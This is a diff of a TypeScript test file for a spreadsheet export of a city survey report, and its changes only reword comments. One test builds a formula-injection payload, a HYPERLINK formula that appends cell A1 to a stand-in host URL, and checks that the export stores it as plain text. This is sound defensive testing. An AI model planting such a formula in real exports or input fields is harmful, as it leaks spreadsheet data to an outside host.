@@ -7,7 +7,7 @@ import { reportWorkbook } from './workbook.ts'
 
 const FIGURES: ReportFigures = { responses: 30, satisfied: 0.5, low: 0.33, high: 0.67, standing: 'full' }
 
-/** A report in which everything that somebody wrote is `written`. */
+/** Returns a report in which every text that a person wrote is `written`. */
 function reportSaying(written: string, breaks?: CityReport['breaks']): CityReport {
   const words = { vi: written, en: written }
   const share = { satisfied: null, low: null, high: null }
@@ -69,7 +69,7 @@ async function read(report: CityReport) {
 }
 const ENTITIES = { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' } as const
 
-/** A cell as it is written: its type, and whether it holds anything but a value. */
+/** Returns each cell's type and its inner XML. */
 const cells = (xml: string) =>
   [...xml.matchAll(/<c ([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)].map(([, attributes = '', inner = '']) => ({
     type: /t="(\w+)"/.exec(attributes)?.[1] ?? 'n',
@@ -85,14 +85,14 @@ describe('the workbook of a report', () => {
     async (start) => {
       const written = `${start}HYPERLINK("http://x.example/"&A1,"<b>")`
       const { xml, strings } = await read(reportSaying(written))
-      // Agency, its group's question, its option, comments and the suggestion with its answer.
+      // The agency, its group's question, its option, comments and the suggestion with its answer.
       const seen = strings.filter((value) => value.includes('HYPERLINK'))
       expect(seen.length).toBeGreaterThan(0)
       for (const value of seen) expect(value.replace(/\r\n?/g, '\n')).toBe(written.replace(/\r\n?/g, '\n'))
       for (const sheet of xml) {
         expect(sheet).not.toMatch(/<(\w+:)?(f|hyperlink)\b/)
         for (const { type, inner } of cells(sheet)) {
-          // An index into the strings, or a number: no text stands in a cell itself.
+          // An index into the strings, or a number: no text is in a cell itself.
           expect(['s', 'n']).toContain(type)
           expect(inner).toMatch(/^(<v>-?[\d.eE+-]+<\/v>)?$/)
         }
@@ -157,7 +157,7 @@ describe('the workbook of a report', () => {
     const numbers = rowsOf(xml[0] ?? '').map((row) => row.filter(({ type }) => type === 'n'))
     const [, , group, agency] = numbers.map((row) => row.map(({ inner }) => inner))
     expect(group).toEqual(['<v>30</v>', '<v>0.5</v>', '<v>0.33</v>', '<v>0.67</v>'])
-    // How many are missing.
+    // The number of missing answers.
     expect(agency).toEqual(['<v>0</v>'])
     const former = report.agencies.map((one) => ({
       ...one,
@@ -166,7 +166,7 @@ describe('the workbook of a report', () => {
       former: true,
     }))
     const told = rowsOf((await read({ ...report, agencies: former })).xml[0] ?? '')[3]
-    // Of those that are no more none is missing.
+    // Former agencies have no missing answers.
     expect(told?.filter(({ type }) => type === 'n').map(({ inner }) => inner)).not.toContain('<v>10</v>')
   })
 
